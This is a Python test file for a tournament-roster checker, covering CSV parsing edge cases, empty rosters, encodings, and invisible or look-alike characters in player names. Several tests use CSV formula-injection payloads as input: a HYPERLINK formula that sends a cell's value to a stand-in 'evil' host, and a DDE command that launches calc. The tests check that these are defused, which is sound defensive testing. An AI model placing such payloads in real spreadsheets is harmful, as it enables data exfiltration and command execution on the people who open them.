"""Nothing in a roster is lost or invented: strict CSV, every row and cell kept, empty rosters,
the cell limit, no Python object in a message, one player is one player."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from riftcheck.events.check import check_event
from riftcheck.events.csvtext import FIELD_LIMIT
from riftcheck.events.read import read_event
from riftcheck.infra.errors import InputError
from riftcheck.reporters import get_reporter

ROOT = Path(__file__).resolve().parents[2]
KENNEN = (ROOT / "examples" / "kennen.deck.txt").read_text(encoding="utf-8")


@pytest.fixture
def lists(tmp_path):
    """An event directory with three list files."""
    for name in ("a", "b", "c", "d"):
        (tmp_path / f"{name}.txt").write_text(KENNEN, encoding="utf-8")
    return tmp_path


def roster(tmp_path, text: str, name: str = "r.csv", encoding: str = "utf-8") -> Path:
    p = tmp_path / name
    p.write_bytes(text.encode(encoding))
    return p


def error_of(path) -> InputError:
    with pytest.raises(InputError) as exc:
        read_event(path)
    return exc.value


# -- a row is never swallowed


@pytest.mark.parametrize(
    "text,line,col,where",
    [
        # the roster: an unclosed quote in the notes, more rows after it
        (
            "player,list,notes\nAnn,a.txt,ok\nBob,b.txt,\"6' tall, wears a hat\nCy,c.txt,\nDee,d.txt,\n",
            3,
            11,
            "row 3, column 3 (notes)",
        ),
        # the quote opens the player's own cell, in a semicolon roster
        ('Name;Decklist\nAnn;a.txt\n"Bob;b.txt\nCy;c.txt\n', 3, 1, "row 3, column 1 (Name)"),
        # in the header itself
        ('player,"list\nAnn,a.txt\n', 1, 8, "row 1, column 2"),
        # a lone quote
        ('"', 1, 1, "row 1, column 1"),
    ],
)
def test_an_unclosed_quote_is_an_error_where_the_cell_opened(
    tmp_path, lists, text, line, col, where
):
    exc = error_of(roster(lists, text))
    assert (exc.location.line, exc.location.column) == (line, col)
    assert exc.message.startswith(where + ": the quoted cell opened at line")
    assert "is never closed" in exc.message


def test_a_quote_closed_rows_later_is_an_error_not_a_long_cell(lists):
    # the quote of Bob's notes closes in Dee's row: Cy's row would vanish into Bob's notes
    text = 'player,list,notes\nBob,b.txt,"tall\nCy,c.txt,x\nDee,d.txt,"\nEve,a.txt,\n'
    exc = error_of(roster(lists, text))
    assert exc.location.line == 2
    assert exc.message.startswith("row 2, column 3 (notes): the cell opened at line 2 holds")
    assert (
        "what reads as 2 more roster rows (lines 3 and 4): 'Cy' and 'Dee' would not be"
        in exc.message
    )
    # text after a closing quote
    exc = error_of(roster(lists, 'player,list\n"Ann"x,a.txt\n'))
    assert exc.location.line == 2 and "followed by 'x'" in exc.message


@pytest.mark.parametrize(
    "text",
    [
        # the swallowed rows leave their trailing empty cells off (attack F1)
        'player,list,table,notes\nAnn,a.txt,1,"6 tall\nCy,b.txt,2\nDee,c.txt,3\nwears a hat"\n',
        'player,list,notes,table\nAnn,a.txt,"6 tall\nCy,b.txt\nDee,c.txt\nwears a hat",3\n',
        # or have more cells than the header
        'player,list,notes\nAnn,a.txt,"6 tall\nCy,b.txt,x,y\nDee,c.txt,,,\nhat"\n',
    ],
)
def test_rows_hidden_in_a_cell_are_found_whatever_their_width(lists, text):
    exc = error_of(roster(lists, text))
    assert exc.location.line == 2
    assert (
        "what reads as 2 more roster rows (lines 3 and 4): 'Cy' and 'Dee' would not be"
        in exc.message
    )


def test_a_pasted_list_with_commas_is_no_hidden_row(lists):
    p = lists / "r.csv"
    with open(p, "w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows([["player", "list"], ["Ann", KENNEN], ["Bob", "b.txt"]])
    ev = read_event(p)
    assert [r.player for r in ev.players] == ["Ann", "Bob"]
    assert ev.players[0].list.kind == "inline"


# -- every column is kept


def test_repeated_blank_and_extra_columns_come_back_where_they_were(lists):
    text = (
        "Email,player,Email,,list,\r\n"
        "a@x,Ann,a2@x,help1,a.txt,help2\r\n"
        "b@x,Bob,b2@x,,b.txt,,extra1,=SUM(A1)\r\n"
        "c@x,Cy,,,c.txt\r\n"
    )
    ev = read_event(roster(lists, text))
    assert ev.columns == ("Email", "player", "Email", "", "list", "", "", "")
    assert [len(r.cells) for r in ev.players] == [8, 8, 8]
    assert any("row 3 has more cells than the header (6)" in n for n in ev.notices)
    run = check_event(ev, as_of=__import__("datetime").date(2026, 9, 20))
    rows = list(csv.reader(io.StringIO(get_reporter("csv").render(run))))
    assert rows[0][:8] == list(ev.columns)
    assert rows[1][:8] == ["a@x", "Ann", "a2@x", "help1", "a.txt", "help2", "", ""]
    # the formula is defused, every other cell is as written, in its place
    assert rows[2][:8] == ["b@x", "Bob", "b2@x", "", "b.txt", "", "extra1", "'=SUM(A1)"]
    assert rows[3][:8] == ["c@x", "Cy", "", "", "c.txt", "", "", ""]
    assert rows[0][8:] == ["verdict", "problems", "findings", "fingerprint"]


def test_formula_cells_of_the_roster_are_defused(lists):
    cells = ['=HYPERLINK("http://evil","x")', "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1", "-2", "\t=1"]
    text = "player,list,notes\n" + "".join(
        f'P{i},a.txt,"{c.replace(chr(34), chr(34) * 2)}"\n' for i, c in enumerate(cells)
    )
    ev = read_event(roster(lists, text))
    run = check_event(ev, as_of=__import__("datetime").date(2026, 9, 20))
    rows = list(csv.reader(io.StringIO(get_reporter("csv").render(run))))
    for row, cell in zip(rows[1:], cells, strict=True):
        assert row[2] == "'" + cell
    for row in rows[1:]:
        assert not any(c.startswith(("=", "+", "-", "@", "\t")) for c in row)


def test_formula_cells_of_the_roster_header_are_defused(lists):
    # the header is the roster's own cells too (attack F2)
    text = 'player,list,"=HYPERLINK(""http://evil/?""&A2,""x"")",@SUM(1),+1,-2\nAnn,a.txt,a,b,c,d\n'
    run = check_event(
        read_event(roster(lists, text)), as_of=__import__("datetime").date(2026, 9, 20)
    )
    rows = list(csv.reader(io.StringIO(get_reporter("csv").render(run))))
    assert rows[0][:6] == [
        "player",
        "list",
        '\'=HYPERLINK("http://evil/?"&A2,"x")',
        "'@SUM(1)",
        "'+1",
        "'-2",
    ]
    assert rows[1][:6] == ["Ann", "a.txt", "a", "b", "c", "d"]


# -- an empty roster is an error


@pytest.mark.parametrize(
    "name,text,message",
    [
        ("r.csv", ",,,\n", "empty roster"),
        ("r.csv", ",,,\n,,\n", "empty roster"),
        ("r.csv", "\ufeff\n \n", "empty roster"),
        ("r.csv", "player,list\n", "a header but no players"),
        ("r.csv", "player,list\n,,\n\n", "a header but no players"),
        ("e.yaml", "name: x\nplayers: []\n", "no players"),
        ("e.yaml", "name: x\nplayers:\n", "no players"),
        ("e.json", '{"name": "x", "players": []}', "no players"),
    ],
)
def test_an_empty_roster_is_an_error(tmp_path, name, text, message):
    exc = error_of(roster(tmp_path, text, name))
    assert message in exc.message and exc.location.file.endswith(name)


def test_an_event_whose_roster_has_no_rows(tmp_path):
    (tmp_path / "r.csv").write_text("player,list\n", encoding="utf-8")
    exc = error_of(roster(tmp_path, "name: x\nroster: r.csv\n", "e.yaml"))
    assert "a header but no players" in exc.message and exc.location.file.endswith("r.csv")


# -- the cell limit


def test_a_cell_over_the_limit_names_row_and_column(lists):
    big = "x" * (FIELD_LIMIT + 1)
    exc = error_of(roster(lists, f'player,list\nAnn,a.txt\nBob,"{big}"\n'))
    assert exc.message.startswith("row 3, column 2 (list): the cell holds 131,073 characters")
    assert "131,072" in exc.message and exc.location.line == 3
    # at the limit it is read (and is no list: a one-line pasted list of nonsense)
    ev = read_event(roster(lists, f'player,list\nBob,"{"x" * FIELD_LIMIT}"\n'))
    assert len(ev.players[0].list.value) == FIELD_LIMIT


# -- no internal object in a message


@pytest.mark.parametrize(
    "text,said",
    [
        (
            "date: [2026]\nplayers: [{player: A}]\n",
            "date: expected a date like 2026-09-20, found a list",
        ),
        ("date: {y: 1}\nplayers: [{player: A}]\n", "found a mapping"),
        (
            "name: !!binary aGVsbG8=\nplayers: [{player: A}]\n",
            "name: expected text, found binary data",
        ),
        ("players:\n  - {player: !!binary aGVsbG8=}\n", "player: expected text, found binary data"),
        ("region: [eu]\nplayers: [{player: A}]\n", "region: expected text, found a list"),
        ("bans: [[x]]\nplayers: [{player: A}]\n", "bans: expected text, found a list"),
        ("best_of: 2\nplayers: [{player: A}]\n", "best_of: expected 1 or 3"),
        ("play_level: [x]\nplayers: [{player: A}]\n", "play_level: expected text, found a list"),
        ("? !!binary aGVsbG8=\n: 1\nplayers: [{player: A}]\n", "unknown key binary data"),
    ],
)
def test_messages_never_show_python_objects(tmp_path, text, said):
    exc = error_of(roster(tmp_path, text, "e.yaml"))
    assert said in exc.message
    for internal in ("Node(", "b'", "[<", "{'", "datetime."):
        assert internal not in exc.message


# -- encodings


def test_utf16_and_windows_1252_rosters(lists):
    text = "Player\tDecklist\nZoë\ta.txt\n"
    ev = read_event(roster(lists, "\ufeff" + text, "r.tsv", "utf-16-le"))
    assert ev.players[0].player == "Zoë" and ev.players[0].list.value == "a.txt"
    ev = read_event(roster(lists, "player,list\nRené,a.txt\n", "r.csv", "cp1252"))
    assert ev.players[0].player == "René"
    assert any("Windows-1252" in n for n in ev.notices)


# -- one player is one player


def names_roster(lists, rows) -> Path:
    p = lists / "n.csv"
    with open(p, "w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows([["player", "id", "list"], *rows])
    return p


def rules_by_row(run):
    return {p.registration.row: sorted(f.rule for f in p.problems) for p in run.event.players}


def test_invisible_characters_do_not_make_two_players(lists):
    rows = [
        ["Alice Moreau", "", "a.txt"],
        ["Alice\u200b Moreau", "", "b.txt"],  # zero-width space
        ["ALICE\u00adMOREAU", "", "c.txt"],  # soft hyphen, no space: another name
        ["\ufeffalice  moreau\u2060", "", "d.txt"],  # BOM, word joiner, two spaces
    ]
    run = check_event(
        read_event(names_roster(lists, rows)), as_of=__import__("datetime").date(2026, 9, 20)
    )
    dups = {
        p.registration.row
        for p in run.event.players
        for f in p.problems
        if f.rule == "roster-duplicate-player"
    }
    assert dups == {2, 3, 5}
    text = get_reporter("text").render(run)
    assert "Alice\\u200b Moreau" in text and "\\ufeffalice" in text
    assert "\u200b" not in text and "\ufeff" not in text
    doc = get_reporter("json").render(run)
    assert "\u200b" not in doc and json.loads(doc)["players"][1]["player"] == "Alice\u200b Moreau"


@pytest.mark.parametrize(
    "unseen",
    [
        "\u034f",  # combining grapheme joiner (default-ignorable, not Cf)
        "\ufe0f",  # variation selector
        "\u3164",  # Hangul filler
        "\u115f",  # Hangul choseong filler
        "\u2800",  # braille blank
        "\x00",  # NUL
        "\U000e0100",  # variation selector supplement
    ],
)
def test_characters_that_render_as_nothing_do_not_make_two_players(lists, unseen):
    # attack F4: names that render alike are one player, and the report shows the character
    rows = [["Hans" + unseen, "", "a.txt"], ["Hans", "", "b.txt"]]
    run = check_event(
        read_event(names_roster(lists, rows)), as_of=__import__("datetime").date(2026, 9, 20)
    )
    assert all("roster-duplicate-player" in r for r in rules_by_row(run).values())
    text = get_reporter("text").render(run)
    assert unseen not in text
    escaped = f"\\x{ord(unseen):02x}" if ord(unseen) < 0x100 else f"\\u{ord(unseen):04x}"
    if ord(unseen) > 0xFFFF:
        escaped = f"\\U{ord(unseen):08x}"
    assert "Hans" + escaped in text


def test_look_alike_names_are_a_warning_naming_both_rows(lists):
    rows = [
        ["Anna Kowalska", "", "a.txt"],
        ["\u0410nna Kowalska", "", "b.txt"],  # Cyrillic A
        ["Bill Smith", "", "c.txt"],
        ["BiII Smith", "", "d.txt"],  # capital I for l
        ["Zoë Berg", "", "a.txt"],
        ["Zoe Berg", "", "b.txt"],  # an accent dropped: a look-alike too (frU 14)
    ]
    run = check_event(
        read_event(names_roster(lists, rows)), as_of=__import__("datetime").date(2026, 9, 20)
    )
    look = {
        p.registration.row: f.message
        for p in run.event.players
        for f in p.problems
        if f.rule == "roster-lookalike-players"
    }
    assert set(look) == {2, 3, 4, 5, 6, 7}
    assert "'\u0410nna Kowalska'" in look[3] and "Anna Kowalska (row 2)" in look[3]
    assert "Bill Smith (row 4)" in look[5]
    assert all(
        f.severity == "warning"
        for p in run.event.players
        for f in p.problems
        if f.rule == "roster-lookalike-players"
    )


def test_one_name_with_an_id_and_without_is_a_warning(lists):
    rows = [
        ["Kofi Mensah", "p07", "a.txt"],
        ["kofi mensah", "", "b.txt"],
        ["Jun Park", "p08", "c.txt"],
        ["Jun Park", "p09", "d.txt"],
    ]
    run = check_event(
        read_event(names_roster(lists, rows)), as_of=__import__("datetime").date(2026, 9, 20)
    )
    by = rules_by_row(run)
    assert "roster-lookalike-players" in by[2] and "roster-lookalike-players" in by[3]
    kofi = next(f for f in run.event.players[1].problems if f.rule == "roster-lookalike-players")
    assert kofi.message.startswith(
        "kofi mensah is also registered with a player id (Kofi Mensah (row 2))"
    )
    # one name under two ids: one player twice (a mistyped id), or two players of one name?
    # Not an error (two people may share a name), a warning naming the other row (attack F5)
    assert "roster-duplicate-player" not in by[4] + by[5]
    jun = [f for f in run.event.players[2].problems if f.rule == "roster-lookalike-players"]
    assert [f.message for f in jun] == [
        "Jun Park is also registered with another player id (Jun Park (row 5)): one player "
        "twice, or two players of one name?"
    ]
    assert "roster-lookalike-players" in by[5]


def test_names_that_differ_by_a_letter_that_looks_like_another_only_in_one_case(lists):
    # attack F14: "Ian" and "Lan" do not look alike (the data maps I to l, not L)
    rows = [["Ian Chen", "", "a.txt"], ["Lan Chen", "", "b.txt"], ["BiII Smith", "", "c.txt"]]
    rows.append(["Bill Smith", "", "d.txt"])
    run = check_event(
        read_event(names_roster(lists, rows)), as_of=__import__("datetime").date(2026, 9, 20)
    )
    by = rules_by_row(run)
    assert "roster-lookalike-players" not in by[2] + by[3]
    assert "roster-lookalike-players" in by[4] and "roster-lookalike-players" in by[5]
